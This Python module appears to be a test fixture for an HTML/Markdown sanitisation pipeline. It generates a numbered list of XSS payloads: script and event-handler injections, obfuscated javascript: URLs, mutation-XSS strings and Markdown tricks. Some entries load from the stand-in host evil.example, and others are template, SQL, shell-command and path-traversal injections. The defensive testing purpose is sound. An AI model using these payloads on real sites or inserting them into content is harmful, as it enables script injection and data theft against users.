"""Attack texts: each, where it works, calls `alert(N)` or asks evil.example for `/N`.

They are put together from what breaks out of a place, what runs or loads something, and ways
to write it that a filter may overlook. `NUM` stands for a payload's own number.
"""

from dataclasses import dataclass
from html import escape
from itertools import product

HOST = "evil.example"
"""Nothing may ever be asked of it."""


@dataclass(frozen=True, slots=True)
class Payload:
    """An attack text with its number."""

    number: int
    text: str

    @property
    def lang(self) -> str:
        """The language of the articles that carry it: every second one is in English."""
        return ("fr", "en")[self.number % 2]


_RUN = [
    "<script>alert(NUM)</script>",
    "<SCRIPT>alert(NUM)</SCRIPT >",
    "<script/x>alert(NUM)</script>",
    "<script\n>alert(NUM)</script\n>",
    "<script>window.hit=NUM</script>",
    "<script type=module>alert(NUM)</script>",
    "<scr<script>ipt>alert(NUM)</scr</script>ipt>",
    "<<script>alert(NUM)//<</script>",
    "<img src=x onerror=alert(NUM)>",
    "<img src=x onerror=alert`NUM`>",
    "<IMG SRC=x OnErRoR=alert(NUM)>",
    "<img/src='x'/onerror='alert(NUM)'>",
    '<img src="x"onerror="alert(NUM)"alt="">',
    "<img src=x:x onerror\t=\talert(NUM)>",
    "<img src=x onerror=&#97;lert(NUM)>",
    "<img src=x onerror=&#x61;&#x6c;ert&lpar;NUM&rpar;>",
    "<img src=x\x0conerror=alert(NUM)>",
    "<img \x00src=x onerror=alert(NUM)>",
    '<img """><script>alert(NUM)</script>">',
    "<image src=x onerror=alert(NUM)>",
    "<img srcset=x onerror=alert(NUM)>",
    "<img src=/favicon.ico onload=alert(NUM)>",
    "<svg onload=alert(NUM)>",
    "<svg/onload=alert(NUM)//",
    "<svg><script>alert(NUM)</script></svg>",
    "<svg><script>alert&#40;NUM)</script></svg>",
    "<svg><animate onbegin=alert(NUM) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(NUM) attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:alert(NUM) /><text y=20>x</text></a>",
    "<svg><set attributeName=href to=javascript:alert(NUM)><a><text y=9>x</text></a></svg>",
    "<svg><foreignObject><body onload=alert(NUM)></foreignObject></svg>",
    "<svg><image href=x onerror=alert(NUM)></svg>",
    "<svg><style><img src=x onerror=alert(NUM)></style></svg>",
    '<svg><use href=\'data:image/svg+xml,<svg id=x xmlns="http://www.w3.org/2000/svg">'
    "<image href=1 onerror=alert(NUM) /></svg>#x'/></svg>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(NUM)'>x</maction></math>",
    "<math href='javascript:alert(NUM)'><mtext>x</mtext></math>",
    "<iframe srcdoc='<script>parent.alert(NUM)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=top.alert(NUM)&gt;'></iframe>",
    "<iframe src='data:text/html,<script>alert(NUM)</script>'></iframe>",
    "<iframe onload=alert(NUM)></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>NUM</object>",
    "<object data=x onerror=alert(NUM)></object>",
    '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" '
    'onload="alert(NUM)"/>\'>',
    "<embed src=/ onload=alert(NUM)>",
    "<body onload=alert(NUM)>",
    "<body onpageshow=alert(NUM)>",
    "<html onpointerrawupdate=alert(NUM)>",
    "<video src=x onerror=alert(NUM)></video>",
    "<video><source src=x onerror=alert(NUM)></video>",
    "<audio src=x onerror=alert(NUM)></audio>",
    "<video controls><track default src=x onerror=alert(NUM)></video>",
    "<details open ontoggle=alert(NUM)>x</details>",
    "<div popover id=p ontoggle=alert(NUM)>x</div><button popovertarget=p autofocus>x</button>",
    "<marquee onstart=alert(NUM)>x</marquee>",
    "<marquee loop=1 width=0 onfinish=alert(NUM)>x</marquee>",
    "<input autofocus onfocus=alert(NUM)>",
    "<input type=image src=x onerror=alert(NUM)>",
    "<select autofocus onfocus=alert(NUM)></select>",
    "<textarea autofocus onfocus=alert(NUM)></textarea>",
    "<a autofocus tabindex=0 onfocus=alert(NUM)>x</a>",
    "<p contenteditable autofocus onfocus=alert(NUM)>x</p>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(NUM)>x</p>",
    "<p style=content-visibility:auto oncontentvisibilityautostatechange=alert(NUM)>x</p>",
    "<p style='width:expression(alert(NUM))'>x</p>",
    "<style>*{background:url('javascript:alert(NUM)')}</style>",
    "<link rel=stylesheet href=x onerror=alert(NUM)>",
    "<link rel=import href='data:text/html,<script>alert(NUM)</script>'>",
    "<isindex type=image src=x onerror=alert(NUM)>",
    "<xss onpointerenter=alert(NUM) style=position:fixed;inset:0>x</xss>",
    "<x onclick=alert(NUM)>x</x>",
]
"""What runs by itself, or when a reader moves or clicks."""

_REQUEST = [
    "<img src={}>",
    "<img srcset='{} 2x'>",
    "<img src=data:, data-src={} data-lazy-src={} loading=lazy>",
    "<picture><source srcset={}><img src=x></picture>",
    "<script src={}></script>",
    "<link rel=stylesheet href={}>",
    "<link rel=prefetch href={}>",
    "<link rel=preconnect href={}>",
    "<link rel=dns-prefetch href={}>",
    "<link rel=icon href={}>",
    "<link rel=modulepreload href={}>",
    "<style>@import url({});</style>",
    "<style>body{{background:url({})}}</style>",
    "<p style='background-image:url({})'>x</p>",
    "<table background={}><tr><td background={}>x</td></tr></table>",
    "<body background={}>",
    "<iframe src={}></iframe>",
    "<object data={}></object>",
    "<embed src={}>",
    "<video src={} poster={} autoplay></video>",
    "<audio src={} autoplay></audio>",
    "<video><track default src={}></video>",
    "<input type=image src={}>",
    "<svg><image href={} /></svg>",
    "<svg><use xlink:href={}#x /></svg>",
    "<svg><feImage href={} /></svg>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<base href={}>",
    "<form action={}><button autofocus>x</button></form>",
    "<a href=/ ping={}>x</a>",
    "<frameset><frame src={}></frameset>",
    "![x]({})",
    "![x][r]\n\n[r]: {}",
    "[![x]({})](/)",
]
"""What loads an address."""
_ADDRESSES = [f"http://{HOST}/NUM", f"//{HOST}/NUM", f"/\\{HOST}/NUM"]

_BREAKOUTS = [
    *('">', "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "-->", "--!>", "]]>"),
    *("</noscript>", "</template>", "</code></pre>", "</td></table>", '"/></a>', "*/</style>"),
    *("\n\n", "\n```\n", "`", ")", "](x)", "\x00", "\u2028", "%22%3E", "&quot;&gt;", '\\">'),
]
"""What may end the place that a text stands in."""
_BROKEN_OUT = [_RUN[0], _RUN[8], _RUN[22]]

_QUOTES = ['"', "'", "`", "", "&quot;", "&#39;", '\\"', "\u201d", "\uff02"]
_HANDLERS = [
    "onfocus=alert(NUM) autofocus tabindex=0 x=",
    "onmouseover=alert(NUM) style=position:fixed;inset:0 x=",
    "onanimationstart=alert(NUM) style=animation-name:x x=",
    "onpointerenter=alert(NUM)//",
    "onerror=alert(NUM) src=x x=",
    "onload=alert(NUM) x=",
    "ontoggle=alert(NUM) popover x=",
    "style=background:url(//evil.example/NUM) x=",
]
"""What may become a further attribute."""

_SPELLINGS = [
    "javascript:alert(NUM)",
    "JaVaScRiPt:alert(NUM)",
    " javascript:alert(NUM)",
    "\x01javascript:alert(NUM)",
    "java\tscript:alert(NUM)",
    "java\nscript:alert(NUM)",
    "java\r\nscript:alert(NUM)",
    "java&#9;script:alert(NUM)",
    "java&Tab;script&colon;alert(NUM)",
    "&#106;avascript:alert(NUM)",
    "&#x6A&#x61vascript:alert(NUM)",
    "&#0000106avascript:alert(NUM)",
    "javascript&#58;alert(NUM)",
    "javascript&colon;alert&lpar;NUM&rpar;",
    "javascript:%61lert(NUM)",
    "javascript://%0aalert(NUM)",
    "javascript://journal.example/%0a%0dalert(NUM)//https://",
    "\u200bjavascript:alert(NUM)",
    "\ufeffjavascript:alert(NUM)",
    "\u202ejavascript:alert(NUM)",
    "java\u00adscript:alert(NUM)",
    "javascript\uff1aalert(NUM)",
    "jav\\u0061script:alert(NUM)",
    "&amp;#106;avascript:alert(NUM)",
    "vbscript:alert(NUM)",
    "data:text/html,<script>alert(NUM)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#NUM",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(NUM)'/>",
    "blob:https://journal.example/NUM",
    "feed:javascript:alert(NUM)",
    "view-source:javascript:alert(NUM)",
    "mailto:x?subject=x%22onfocus=alert(NUM)%20autofocus",
]
"""How an address may be written that runs a script."""
_LINKS = [
    '<a href="{}">x</a>',
    "<iframe src='{}'></iframe>",
    '<form><button formaction="{}" autofocus>x</button></form>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    "[x]({})",
    "[x](<{}>)",
]

_MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(NUM)>"></noscript>',
    "<noscript><style></noscript><img src=x onerror=alert(NUM)></style></noscript>",
    "<template><script>alert(NUM)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(NUM)></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=alert(NUM)&gt;'></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(NUM)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(NUM)>'>",
    "<svg><title><style><img src='</style><img src=x onerror=alert(NUM)>'></style></title></svg>",
    "<svg><desc><noembed><img src='</noembed><img src=x onerror=alert(NUM)>'></desc></svg>",
    "<math><annotation-xml encoding=text/html><style></math><img src=x onerror=alert(NUM)>",
    "<math></br><style><!--</style><img src=x onerror=alert(NUM)>--></style></math>",
    "<table><td><form><table><form><img src=x onerror=alert(NUM)></table></form>",
    "<form id=f><form><input name=attributes autofocus onfocus=alert(NUM)></form>",
    "<select><template><style><img src=x onerror=alert(NUM)></style></template></select>",
    "<xmp><p title='</xmp><img src=x onerror=alert(NUM)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(NUM)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(NUM)>'></noframes>",
    "<iframe><p title='</iframe><img src=x onerror=alert(NUM)>'></iframe>",
    "<textarea><p title='</textarea><img src=x onerror=alert(NUM)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(NUM)>'></title>",
    "<plaintext><img src=x onerror=alert(NUM)>",
    "<!--><img src=x onerror=alert(NUM)>-->",
    "<!---><img src=x onerror=alert(NUM)>-->",
    "<!-- --!><img src=x onerror=alert(NUM)> -->",
    "<!--[if gte IE 4]><script>alert(NUM)</script><![endif]-->",
    "<![><img src=x onerror=alert(NUM)>",
    "<!DOCTYPE x [<!ENTITY a '<img src=x onerror=alert(NUM)>'>]>&a;",
    "<?xml version='1.0'?><img src=x onerror=alert(NUM)>",
    "<?php echo '<script>alert(NUM)</script>' ?>",
    "<% <img src=x onerror=alert(NUM)> %>",
    "</p <img src=x onerror=alert(NUM)>",
    "<p a='</p><img src=x onerror=alert(NUM)>'",
    "<img src='x' alt='`` onerror=alert(NUM)'>",
    "<listing>&lt;img src=x onerror=alert(NUM)&gt;</listing>",
    "&lt;img src=x onerror=alert(NUM)&gt;",
    "&amp;lt;script&amp;gt;alert(NUM)&amp;lt;/script&amp;gt;",
    "&#60script&#62alert(NUM)&#60/script&#62",
    "&#0000060;img src=x onerror=alert(NUM)&#x000003e;",
    "\uff1cscript\uff1ealert(NUM)\uff1c/script\uff1e",
    "\u00bcscript\u00bealert(NUM)\u00bc/script\u00be",
    "+ADw-script+AD4-alert(NUM)+ADw-/script+AD4-",
    "\x1b$B<script>alert(NUM)</script>\x1b(B",
    "\u202e<script>alert(NUM)</script>\u202c",
    "<s\u0000cript>alert(NUM)</s\u0000cript>",
    "<a id=currentScript name=archipelSearch href=javascript:alert(NUM)>x</a>",
    "<form name=archipelSearch><input id=search-form name=dataset></form>NUM",
]
"""What is harmless until it is parsed, or cleaned, a second time."""

_MARKDOWN = [
    "<javascript:alert(NUM)>",
    "<data:text/html,NUM>",
    "[x][r]\n\n[r]: javascript:alert(NUM)",
    '[x]\n\n[x]: <javascript:alert(NUM)> "onfocus=alert(NUM) autofocus"',
    "![x](javascript:alert(NUM))",
    "![x](data:image/svg+xml,NUM)",
    '![x"onerror=alert(NUM) y="](x)',
    '![x](x "t\\" onerror=alert(NUM) y=")',
    '![x]("onerror="alert(NUM))',
    '![x](/media/x.jpg"onload=alert(NUM))',
    "![x](/media/../../../NUM.jpg)",
    "![x](/media//evil.example/NUM.jpg)",
    '[x](/ "\'><img src=x onerror=alert(NUM)>")',
    "[x](/ '\"onfocus=alert(NUM) autofocus tabindex=0 y=\"')",
    "[x](javascript&#58;alert(NUM))",
    "[x](\\javascript:alert(NUM))",
    '[x](https://x.example/"onfocus=alert(NUM)autofocus/)',
    "[`x](javascript:alert(NUM)`)",
    "[x](//evil.example/NUM)",
    "`<img src=x onerror=alert(NUM)>`",
    "``` <img src=x onerror=alert(NUM)> ```",
    "```\n</code></pre><img src=x onerror=alert(NUM)>\n```",
    '```"onfocus=alert(NUM)\ncode\n```',
    "``\n`<script>alert(NUM)</script>`\n``",
    "    <script>alert(NUM)</script>\n",
    "> <img src=x onerror=alert(NUM)>\n> `</blockquote>",
    "- <img src=x onerror=alert(NUM)>\n    - <svg onload=alert(NUM)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(NUM)> | [x](javascript:alert(NUM)) |",
    "x[^n]\n\n[^n]: <img src=x onerror=alert(NUM)>",
    'x[^"><img src=x onerror=alert(NUM)>]\n\n[^"><img src=x onerror=alert(NUM)>]: y',
    "[^n]: [x](javascript:alert(NUM))\n\nx[^n]",
    "# <img src=x onerror=alert(NUM)>\n",
    "<img src=x\nonerror=alert(NUM)>\n",
    "<div\n\nonclick=alert(NUM)>",
    "<p><!-- \n\n --><img src=x onerror=alert(NUM)>",
    "\\<img src=x onerror=alert(NUM)\\>",
    "*<img src=x onerror=alert(NUM)>*~~<svg onload=alert(NUM)>~~",
    "« <img src=x onerror=alert(NUM)> »",
    "\"<img src='x' onerror='alert(NUM)'>\" -- 'x' ... (c)",
    "&#x26;lt;img src=x onerror=alert(NUM)&#x26;gt;",
]
"""What Markdown makes into HTML."""

_TEXTS = [
    "{{ 7 * NUM }}",
    "{{ self.__init__.__globals__ }}NUM",
    "{% raw %}{{ NUM }}",
    "{% include 'NUM' %}",
    "{# NUM",
    "{attach}/NUM.png",
    "{filename}../../../NUM.md",
    "|filename|NUM.md",
    "%(x)s %s %d NUM",
    "${alert(NUM)}",
    "#{alert(NUM)}",
    "{0.__class__} NUM",
    '"};alert(NUM);//',
    "');alert(NUM);//",
    '\\");alert(NUM);//',
    "</script><script>alert(NUM)//",
    "<!--<script>alert(NUM)",
    "\u2028alert(NUM)\u2029",
    "__proto__ constructor alert(NUM)",
    "x NUM\nStatus: hidden",
    "x NUM\r\nSlug: ../../x",
    "x NUM\rTemplate: base",
    "x NUM\x0bSave_as: ../../x.html",
    "x NUM\x85Url: //evil.example/",
    "x NUM\u2028Lang: de",
    "x NUM\n\n<script>alert(NUM)</script>",
    "x NUM\n---\nTitle: y\n---\n",
    "x NUM; Status: draft; \\; y",
    "x NUM\n[x]\nlabel = 3",
    "x NUM \"\"\" ''' \\",
    "\x1b]0;NUM\x07\x1b[31m[red]NUM[/red]",
    "\u202ejoin\u202c \u2066NUM\u2069 \u200f\u200e",
    "\x00\x08\x7fNUM\ufffe",
    "e" + "\u0301" * 40 + " NUM",
    "x NUM " + "\U0001f9ed\u200d" * 20,
    "../../../NUM",
    "..\\..\\NUM",
    "/etc/NUM",
    "C:\\NUM",
    "CON NUM",
    "file:///etc/NUM",
    "' OR NUM=NUM --",
    '=HYPERLINK("http://evil.example/NUM")',
    "() { :;}; NUM",
    "; touch NUM #",
    "$(touch NUM)`touch NUM`",
    "NUM" * 200,
    "x" * 5000 + " NUM",
]
"""What templates, scripts, front matter, terminals, paths and shells may stumble over."""


def _texts() -> list[str]:
    """All attack texts, none twice."""
    found = [*_RUN, *_MUTATIONS, *_MARKDOWN, *_TEXTS]
    found += [form.format(*[address] * 2) for form, address in product(_REQUEST, _ADDRESSES)]
    found += [start + end for start, end in product(_BREAKOUTS, _BROKEN_OUT)]
    found += [f"x{quote} {handler}{quote}" for quote, handler in product(_QUOTES, _HANDLERS)]
    found += [form.format(address) for form, address in product(_LINKS, _SPELLINGS)]
    found += [escape(text) for text in _RUN[8:12]]
    return list(dict.fromkeys(found))


PAYLOADS = [
    Payload(number, text.replace("NUM", str(number))) for number, text in enumerate(_texts(), 1000)
]
CORE = PAYLOADS[::32]
"""Some of every sort, for every form."""
